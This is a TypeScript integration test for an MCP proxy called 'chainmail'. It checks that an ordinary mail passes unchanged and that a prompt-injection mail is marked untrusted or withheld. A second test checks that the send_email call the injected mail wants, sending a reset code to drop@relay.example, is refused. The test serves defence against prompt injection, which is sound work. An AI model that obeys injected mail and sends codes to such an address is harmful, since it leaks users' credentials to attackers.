import { fileURLToPath } from 'node:url';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const path = (name: string): string => fileURLToPath(new URL(name, import.meta.url));
const node = ['--import', 'tsx'];

/** The proxy as a process of its own, between the official client and a server made with the official SDK. */
describe('chainmail mcp, over standard input and output', () => {
  const client = new Client({ name: 'test', version: '1.0.0' });
  const call = async (name: string, args: Record<string, unknown>): Promise<string> =>
    JSON.stringify(await client.callTool({ name, arguments: args }));

  beforeAll(async () => {
    const server = [process.execPath, ...node, path('mcp/serve.ts')];
    const args = [...node, path('../../src/cli/main.ts'), 'mcp', '--', ...server];
    await client.connect(new StdioClientTransport({ command: process.execPath, args }));
  }, 60_000);
  afterAll(() => client.close());

  it('shows the tools and an ordinary mail as they are', async () => {
    expect((await client.listTools()).tools.map(({ name }) => name)).toContain('send_email');
    expect(await call('read_mail', { id: 'lunch' })).toBe(
      '{"content":[{"type":"text","text":"Hi, lunch on Friday at noon? Best, Anna"}]}',
    );
  });

  it('marks or withholds an attack, and refuses the call it wants', async () => {
    expect(await call('read_mail', { id: 'bad' })).toMatch(/untrusted|withheld/);
    const sent = await call('send_email', { to: 'drop@relay.example', body: 'reset code 4711' });
    expect(sent).toContain('"isError":true');
    expect(sent).not.toContain('sent to drop');
  });
});
